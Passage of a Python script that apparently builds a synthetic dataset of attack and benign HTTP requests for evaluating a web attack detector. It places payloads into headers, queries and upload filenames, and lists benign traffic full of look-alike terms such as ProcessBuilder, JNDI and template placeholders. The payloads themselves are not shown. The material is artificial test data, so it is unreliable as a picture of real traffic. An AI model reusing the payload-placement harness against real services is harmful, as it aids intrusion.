            return {"method": "GET", "uri": f"{self.pick(RS_GET_PATHS)}?{payload}", "body": "",
                    "headers": self.suite()}
        if place == "rs-multipart-filename":
            body, mp = self.multipart([], [(self.pick(["file", "upload", "uploadfile"]), payload,
                                            "application/octet-stream", content)])
            return {"method": "POST", "uri": self.pick(RS_POST_PATHS), "body": body,
                    "headers": {**self.suite(), "Content-Type": mp}}
        raise ValueError(place)


def _fits(place: str, payload: str) -> bool:
    if place.startswith(HEADER_PLACES):
        return _header_safe(payload)
    return True


def _choose(places: list[str], start: int, payload: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _fits(place, payload):
            return place
    return places[0] if not places[0].startswith(HEADER_PLACES) else "query"


def attacks() -> Iterator[dict[str, Any]]:
    g = Gen(80_080)
    n = 0
    for t, (category, sub, entries) in enumerate(TITLES):
        turns: dict[str, int] = {}
        for entry in entries:
            payload = entry if isinstance(entry, str) else entry[0]
            kind = "" if isinstance(entry, str) else entry[1]
            content = entry[2] if isinstance(entry, tuple) and len(entry) == 3 else ""
            k = turns.get(kind, 0)
            turns[kind] = k + 1
            real_place = _choose(REAL[kind], t + k, payload)
            rs_place = _choose(RS[kind], t + 2 * k, payload)
            for place, req in ((real_place, g.real(real_place, sub, payload, kind, content)),
                               (rs_place, g.rs(rs_place, payload, kind, content))):
                n += 1
                yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ------------------------------------------------------------------------------------------------------ benign
CHAT = [
    # Java
    "the nightly job spawns a new JVM per tenant, that's why memory spikes at 2am",
    "ProcessBuilder is wrapped by our CommandRunner class now, please don't call it directly",
    "Runtime.getRuntime().availableProcessors() returns 2 in the container, bump the CPU limit",
    "class loader leak fixed: a ThreadLocal was holding the webapp's classes after redeploy",
    "log4j is on 2.23 across all services, the JNDI lookup feature is gone anyway",
    "we moved off Java serialization to JSON for the session cache last sprint",
    "Spring Boot 3.2 upgrade done, the javax to jakarta rename was the painful part",
    "the XStream dependency is finally removed from the reporting service",
    "JSP pages in the old admin are being rewritten in React this quarter",
    "Tomcat 10.1 is the new base image and the manager app is disabled",
    "who owns the commons-collections upgrade ticket? it's been open for a month",
    "Struts is gone from every repo except the archived billing-legacy one",
    "java.lang.OutOfMemoryError on the indexer again, heap dump is in the bucket",
    "getClass().getSimpleName() in the log line makes it easier to grep",
    "Jackson polymorphic typing stays off, we use explicit subtypes",
    "reflection-heavy code in the mapper was slow, switched to MapStruct",
    "the InitialContext lookup in the old EJB code is dead code now, deleting it",
    "Thymeleaf templates for the emails live in src/main/resources/templates",
    "FreeMarker is still used by the invoice PDF generator, don't remove it yet",
    "Velocity templates in the CMS are read-only now",
    # Node
    "child processes from the image resizer pile up when sharp fails",
    "we use execa instead of child_process in the CLI, much nicer errors",
    "node 20 LTS everywhere, the fs/promises API is the default now",
    "require vs import: the new services are ESM only",
    "process.env is read once in config.ts, please don't read it anywhere else",
    "the event loop was blocked by a sync JSON.parse of a 40MB file",
    "eval is banned by the eslint config, no-new-func too",
    "the prototype pollution fix landed in our merge helper, thanks Dana",
    "the constructor of the Queue class takes an options object now",
    "setTimeout drift is about 4ms on the busy workers",
    "the vm module is only used in the test harness",
    "Handlebars templates for the receipts are in views/receipts",
    "Pug was replaced by JSX on the marketing site",
    "the worker crashed with heap out of memory, raising max-old-space-size to 4096",
    "an infinite loop in the retry logic kept one core at 100% all night",
    # Ruby and Perl
    "Rails 7.1 upgrade: ERB views compile fine, two partials needed fixes",
    "the Ruby export script uses Open3 now, it captures stderr properly",
    "Kernel#system calls in the deploy scripts are logged to the audit channel",
    "Sidekiq queue is backed up, 12k jobs waiting",
    "Marshal dumps in the cache were replaced with MessagePack",
    "the Perl reporting scripts are being retired, finally",
    "cpanm install failed on the old box, missing libssl-dev",
    "our Perl CGI for the intranet phone book still works after 20 years",
    "YAML.safe_load everywhere, rubocop enforces it",
    "the rake task for reindexing takes about 40 minutes",
    "Gemfile.lock conflict again, rebase on main please",
    "backticks are gone from the build scripts, everything goes through one helper",
    # templates
    "Hi {{ first_name }}, your order {{ order_id }} has shipped!",
    "use {{ user.name }} in the greeting, the old {name} placeholder is deprecated",
    "the Jinja2 macro for the footer is in base.html",
    "Twig's raw filter should not be used on user text",
    "Smarty cache dir needs write permission for www-data",
    "Handlebars partials are registered at startup in views.js",
    "in the Pug template indentation matters, two spaces",
    "ERB trim mode is on, so the dash form strips the whitespace",
    "Dear ${customer_name}, thank you for your payment",
    "the invoice template uses ${invoice.total} and ${invoice.currency}",
    "Velocity: $customer.name shows up blank when the field is null",
    "Thymeleaf th:text escapes by default, th:utext does not",
    # cloud and network
    "the instance metadata service only answers IMDSv2 tokens now",
    "AWS rotates the instance role credentials every hour or so",
    "GCP metadata server timeouts were caused by the proxy settings",
    "printer on the 3rd floor is 192.168.1.20 if you need to add it by hand",
    "db replica 10.0.4.12 is out of disk, failing over",
    "localhost:8080 is the API in docker compose, 3000 is the web app",
    "VPN assigns 172.16.x.x addresses, the office wifi uses 10.10.x.x",
    "169 tickets closed this sprint, 254 still open",
    "the Azure managed identity works for blob storage now",
    "Alibaba Cloud region for the China launch is cn-shanghai",
    "Oracle Cloud trial ends next week, migrate the demo box",
    "the webhook URL is configured per workspace in the admin panel",
    "DNS for the status page moved to the new provider",
    "IPv6 rollout: ::1 works locally but the firewall blocks the rest",
    # prose
    "Ruby Chen joined the platform team today, say hi",
    "lunch order: two pad thai and a green curry",
    "the data team needs the Q3 numbers by Friday",
    "is anyone using the big meeting room at 2?",
    "reminder: the office is closed on Monday",
    "Perla's birthday party is on Saturday, bring snacks",
    "the prototype for the mobile app is ready for user testing",
    "Constructor Group sent the quote for the new office fit-out",
    "while you're at it, could you update the onboarding doc?",
    "for the record, the outage was 14 minutes",
    "the process for expense claims changed, see the HR wiki",
    "our runtime costs went down 12% after the rightsizing",
    "the class on Thursday is about negotiation skills",
    "Java Cafe downstairs has a new espresso machine",
    "the kernel of the idea is good, but the scope is too large",
    "please spawn a new thread in #help for that question",
    "the method we agreed on: small PRs, one reviewer",
    "the Marshal of the parade changed the route to Elm Street",
    "my handle is @ruby.dev, ping me anytime",
    "pug meetup in the park on Sunday, dogs welcome",
    "Smarty Pants bakery delivers the cake at 3",
    "the handlebars on my bike need new tape",
    "Twig & Berry florist did the table flowers",
    "velocity of the team is 42 points this sprint",
    "the metadata on the photos is stripped on upload",
    "serialization of the event log into Parquet is done",
    "the template for the quarterly report is in the drive",
    "we need to process 10k requests per second at peak",
    # code in chat
    "to debug, run `node -e \"console.log(process.versions)\"` and paste the output",
    "the tool runs `new ProcessBuilder(\"git\", \"status\").inheritIO().start()`, nothing fancy",
    "in ruby, File.read(path) with a user path is dangerous, use the allowlist",
    "a simple `while (queue.length) { work(queue.shift()) }` loop is enough here",
    "the log says Caused by: java.lang.ClassNotFoundException: com.acme.billing.Invoice",
    "use Object.create(null) for dictionaries to avoid prototype surprises",
    "perl -ne 'print if /ERROR/' app.log | wc -l gives 42",
    "`require('dotenv').config()` must be the first line of index.js",
    "Class.forName(\"org.postgresql.Driver\") is not needed since JDBC 4",
    "the base64 of our logo in the email template starts with iVBORw0KGgo",
]

SEARCHES = [
    "ruby chen", "java developer", "node", "perl", "process engineer", "runtime team", "class of 2019", "metadata",
    "data", "prototype team", "constructor", "spring", "struts", "template", "jinja", "twig", "smarty", "velocity",
    "handlebars", "pug", "kernel", "marshal", "gopher", "eval team", "system administrator", "exec assistant",
    "localhost", "127 main st", "169 park ave", "10.0", "192 168", "ipv6", "aws", "google cloud", "azure", "oracle",
    "alibaba", "ann o'neil", "josé garcía", "zoë", "björk", "müller", "o'reilly", "smith & jones", "r&d",
    "c++ developer", "c# developer", ".net", "qa (manual)", "sales - emea", "50% time", "#platform", "@ann",
    "team: runtime", "java; spring", "node.js, express", "ruby on rails", "perl/cgi", "jsp pages", "tomcat",
    "log4j", "ldap admin", "serialization", "class loader", "reflection", "invoke", "java.lang", "com.acme",
    "org chart", "first name", "while", "for loop", "freemarker", "thymeleaf", "erb", "process", "spawn", "cloud",
    "instance", "internal", "proxy", "webhook", "callback", "redirect", "http", "url", "file upload", "import",
]

PROFILES = [
    ("Ruby Chen", "Senior Java Developer", "Platform Runtime", "12 Process Street, Leeds LS1 4AP"),
    ("Pearl Okafor", "Perl Maintainer", "Legacy Systems", "4 Kernel Court, Bristol BS1 5TR"),
    ("Jinja Park", "Template Designer", "Marketing", "77 Twig Lane, Oxford OX2 6HD"),
    ("Marshal Brooks", "Release Manager", "Release Engineering", "1 Constructor Way, Reading RG1 1AA"),
    ("Velocity Partners Ltd", "Agency", "Partners", "Unit 5, Data Park, Swindon SN1 2ER"),
    ("Anna Runtime", "QA Engineer", "Quality", "8 Spring Gardens, London SW1A 2BN"),
    ("José García", "Node.js Engineer", "Web", "Calle del Proceso 14, Madrid"),
    ("Zoë Müller", "Data Scientist", "Analytics", "Klassenweg 3, Berlin"),
    ("Siobhán O'Neil", "Cloud Architect", "Infrastructure", "169 Park Avenue, Dublin D02"),
    ("Liam Smith", "Handlebars mechanic", "Facilities", "10 Pug Road, Cork"),
    ("Mei Tanaka", "Security Engineer", "Security", "2-1 Prototype-cho, Tokyo"),
    ("Priya Nair", "Struts & Beams Consultant", "Construction", "22 Method Lane, Bangalore"),
    ("Tomás Ruiz", "Smarty Pants Bakery owner", "Customers", "3 Template Square, Seville"),
    ("Olu Adeyemi", "Gopher Wrangler", "Go Team", "5 Exec Road, Lagos"),
    ("Ingrid Berg", "Java Cafe manager", "Hospitality", "Class Street 9, Oslo"),
    ("Chen Wei", "Metadata librarian", "Archives", "100 Cloud Road, Shanghai"),
    ("Fatima Zahra", "Oracle DBA", "Data", "12 Instance Way, Rabat"),
    ("Noah Williams", "Spring intern", "Platform", "7 Loader Lane, Sydney NSW 2000"),
    ("Emma Johnson", "ERB reviewer", "Web", "44 Ruby Road, Austin TX 78701"),
    ("Lucas Martin", "Twig artist", "Design", "18 rue du Processus, Lyon"),
]

BENIGN_URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/Runtime.html",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://perldoc.perl.org/functions/system",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://pugjs.org/language/interpolation.html",
    "https://www.smarty.net/docs/en/language.function.include.tpl",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://owasp.org/www-community/vulnerabilities/Deserialization_of_untrusted_data",
    "https://github.com/acme/runtime-service/blob/main/src/main/java/com/acme/ProcessRunner.java",
    "https://www.example.com/blog/2024/05/why-we-left-java-serialization",
    "https://status.example.com/incidents/169",
    "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXX",
    "https://cdn.example.org/img/ruby-chen.jpg?v=3",
    "https://example.com/files/jsp-migration-plan.pdf",
    "https://maps.example.com/?q=12+Process+Street+Leeds",
    "https://www.linkedin.com/in/ruby-chen-java",
    "https://en.wikipedia.org/wiki/Link-local_address",
]

CLIENT_UAS = [
    "okhttp/4.12.0", "Apache-HttpClient/5.2.1 (Java/17.0.9)", "Java/11.0.21", "node-fetch/1.0 (+https://github.com"
    "/bitinn/node-fetch)", "axios/1.6.8", "Go-http-client/2.0", "python-requests/2.31.0", "PostmanRuntime/7.36.3",
    "Faraday v2.9.0", "rest-client/2.1.0 (linux x86_64) ruby/3.2.2p53", "Ruby", "Dart/3.3 (dart:io)",
    "Slackbot 1.0 (+https://api.slack.com/robots)", "curl/8.5.0", "Wget/1.21.4", "HTTPie/3.2.2",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
] + BROWSER_UAS
REFERERS = [
    "https://app.example.com/admin/templates/welcome-email", "https://www.google.com/",
    "https://app.example.com/users?q=java+developer", "https://app.example.com/settings/integrations/webhooks",
    "https://github.com/acme/api/pull/812", "https://app.slack.com/client/T0123/C0456",
    "https://app.example.com/reports/q3?tab=runtime", "https://duckduckgo.com/",
]
COOKIES = [
    "theme=dark; lang=en-GB", "_ga=GA1.2.1234567890.1719000000; _gid=GA1.2.987654321.1719000000",
    "recent_search=java%20developer", "last_team=platform-runtime", "tz=Europe%2FBerlin",
    "onboarding_step=3; tour_done=true", "sidebar=collapsed; density=compact",
]
UPLOADS = [
    ("resume-ruby-chen.pdf", "application/pdf", "%PDF-1.7\n% resume\n"),
    ("photo.jpg", "image/jpeg", "JFIF placeholder"),
    ("jsp-migration-notes.txt", "text/plain", "pages to migrate: login, search, reports\n"),
    ("budget.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "PK placeholder"),
    ("logo.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"/>"),
    ("script-review.md", "text/markdown", "# Review\nThe Node script uses child processes for thumbnails.\n"),
    ("invoice-169.pdf", "application/pdf", "%PDF-1.4\n"),
    ("team-photo.png", "image/png", "PNG placeholder"),
    ("java-course-certificate.pdf", "application/pdf", "%PDF-1.5\n"),
    ("notes.txt", "text/plain", "Call Ruby about the runtime budget.\n"),
    ("contacts.csv", "text/csv", "name,email\nRuby Chen,ruby.chen@example.com\n"),
    ("template-welcome.html", "text/html", "<p>Hi {{ first_name }}, welcome aboard.</p>\n"),
]
PATH_SLUGS = [
    "ruby-chen", "42", "java.dev", "pearl-okafor", "jinja-park", "marshal-brooks", "jose-garcia", "zoe-muller",
    "anna.runtime", "me", "169", "platform-runtime", "node-team", "spring-intern", "class-of-2019", "data-team",
    "user_1001", "siobhan-oneil", "prototype-lab", "handlebars-shop",
]
SETTINGS = [
    {"timezone": "Europe/Berlin", "signature": "Sent from my phone"},
    {"signature": "Ruby Chen | Senior Java Developer | Platform Runtime"},
    {"notification_email": "ruby.chen@example.com", "digest": "weekly"},
    {"website": "https://ruby-chen.dev", "pronouns": "she/her"},
    {"email_template": "Hi {{ first_name }}, thanks for joining {{ team }}!"},
    {"status": "at the Java user group meetup until 3"},
    {"status": "OOO: back Monday, ping Marshal for releases"},
    {"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kg"
               "AAAABJRU5ErkJggg=="},
    {"bio": "I write Ruby, Perl and Java; I like templates and data pipelines."},
    {"address": "12 Process Street, Leeds LS1 4AP", "phone": "+44 113 496 0000"},
]
ME_FORMS = [
    [("theme", "dark"), ("language", "en"), ("signature", "Ruby Chen, Platform Runtime")],
    [("display_name", "Marshal Brooks"), ("website", "https://marshal.example.com/blog")],
    [("signature", "Dear ${customer_name}, thanks! - the Support team")],
    [("digest", "daily"), ("timezone", "America/New_York")],
    [("display_name", "José García"), ("signature", "Enviado desde mi móvil")],
    [("status", "for the next hour: heads down on the class loader bug")],
]
XML_BIOS = [
    "Java and Node developer, loves Spring and Thymeleaf",
    "Perl and Ruby scripts for the finance team since 2009",
    "Template designer: Jinja, Twig and Handlebars",
    "Cloud architect working on AWS and GCP metadata tooling",
    "I keep the runtime, the process and the class loader happy",
    "O'Reilly author, speaker, runner",
    "Loves data, hates meetings & long emails",
    "Smarty Pants Bakery: cakes for every occasion",
]


def benign() -> Iterator[dict[str, Any]]:
    g = Gen(80_081)
    n = yield from chat_and_bio(CHAT, NAME)
    g.n = n
    html = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    for q in SEARCHES:
        yield g.record("search", "query", {
            "method": "GET", "uri": g.query_uri("/api/users", "q", urllib.parse.quote(q, safe="")), "body": "",
            "headers": g.browser("application/json")})
        yield g.record("search", "form", {
            "method": "POST", "uri": "/admin/users/search",
            "body": urllib.parse.urlencode([("csrf_token", g.token(24)), ("q", q)]),
            "headers": {**g.browser(html, "navigate", "document"), "Origin": "https://app.example.com",
                        "Content-Type": "application/x-www-form-urlencoded"}})
    for name, title, dept, address in PROFILES:
        email = urllib.parse.quote(name.lower().replace(" ", ".").replace("'", ""), safe=".") + "@example.com"
        for doc in ({"name": name, "email": email, "title": title, "department": dept},
                    {"name": name, "address": address, "bio": f"{title} in {dept}"}):
            yield g.record("profile", "json", {
                "method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**g.browser("application/json"), "Content-Type": "application/json"}})
        yield g.record("profile", "xml", {
            "method": "POST", "uri": "/api/users",
            "body": f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>{escape(name)}</name>"
                    f"<title>{escape(title)}</title><address>{escape(address)}</address></user>",
            "headers": {**g.browser("application/xml"), "Content-Type": "application/xml"}})
    for url in BENIGN_URLS:
        yield g.record("url", "json", {
            "method": "POST", "uri": "/api/users",
            "body": json.dumps({"name": "Ann Lee", "website": url, "notes": "see " + url}),
            "headers": {**g.browser("application/json"), "Content-Type": "application/json"}})
        yield g.record("url", "query", {
            "method": "GET", "uri": g.query_uri("/api/users", "ref", urllib.parse.quote(url, safe="")), "body": "",
            "headers": g.browser("application/json")})
        h = g.browser(html, "navigate", "document")
        h["Referer"] = url
        yield g.record("url", "header:Referer", {"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": h})
    for ua in CLIENT_UAS:
        yield g.record("client", "header:User-Agent", {
            "method": "GET", "uri": f"/api/users/{g.rng.randint(1, 999)}", "body": "",
            "headers": {"User-Agent": ua, "Accept": "application/json", "Accept-Encoding": "gzip"}})
    for ref in REFERERS:
        for _ in range(2):
            h = g.browser("application/json")
            h["Referer"] = ref
            yield g.record("referer", "header:Referer", {"method": "GET", "uri": g.query_uri(
                "/api/users", "q", urllib.parse.quote(g.pick(SEARCHES), safe="")), "body": "", "headers": h})
    for cookie in COOKIES:
        for _ in range(3):
            h = g.browser("application/json")
            h["Cookie"] = f"session={g.token(24)}; cookie_consent=essential; {cookie}"
            yield g.record("cookie", "cookie", {"method": "GET", "uri": "/api/users/42", "body": "", "headers": h})
    for filename, ctype, content in UPLOADS:
        for uri in ("/api/users/42/documents", "/api/users/42/avatar"):
            body, mp = g.multipart([("csrf_token", g.token(24)), ("title", filename.rsplit(".", 1)[0])],
                                   [("file", filename, ctype, content)])
            yield g.record("upload", "multipart", {"method": "POST", "uri": uri, "body": body,
                                                   "headers": {**g.browser("application/json"), "Content-Type": mp}})
    for slug in PATH_SLUGS:
        for base in ("/api/users/", "/api/teams/"):
            yield g.record("path", "path", {"method": "GET", "uri": base + urllib.parse.quote(slug, safe=""),
                                            "body": "", "headers": g.browser("application/json")})
    for doc in SETTINGS:
        for _ in range(2):
            yield g.record("settings", "json", {
                "method": "PATCH", "uri": "/api/users/42", "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**g.browser("application/json"), "Content-Type": "application/json",
                            "Origin": "https://app.example.com"}})
    for fields in ME_FORMS:
        for _ in range(2):
            yield g.record("settings", "form", {
                "method": "POST", "uri": "/me/settings",
                "body": urllib.parse.urlencode([("csrf_token", g.token(24)), *fields]),
                "headers": {**g.browser(html, "navigate", "document"), "Origin": "https://app.example.com",
                            "Content-Type": "application/x-www-form-urlencoded"}})
    for bio in XML_BIOS:
        for _ in range(2):
            yield g.record("xml", "xml", {
                "method": "POST", "uri": "/api/users",
                "body": f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Ann Lee</name>"
                        f"<bio>{escape(bio)}</bio></user>",
                "headers": {**g.browser("application/xml"), "Content-Type": "application/xml"}})
    for text in CHAT:
        yield g.record("status", "json", {
            "method": "PATCH", "uri": "/api/users/42", "body": json.dumps({"status": text}, ensure_ascii=False),
            "headers": {**g.browser("application/json"), "Content-Type": "application/json",
                        "Origin": "https://app.example.com"}})
    for name, *_ in PROFILES:
        yield g.record("search", "query", {
            "method": "GET", "uri": g.query_uri("/api/users", "q", urllib.parse.quote(name, safe="")), "body": "",
            "headers": g.browser("application/json")})
    for q in SEARCHES[:40]:
        for place, name in (("multipart", "title"),):
            body, mp = g.multipart([("csrf_token", g.token(24)), (name, q)],
                                   [("file", "notes.txt", "text/plain", "meeting notes\n")])
            yield g.record("upload-field", place, {"method": "POST", "uri": "/api/users/42/documents", "body": body,
                                                   "headers": {**g.browser("application/json"),
                                                               "Content-Type": mp}})


if __name__ == "__main__":
    print_records(attacks(), benign())
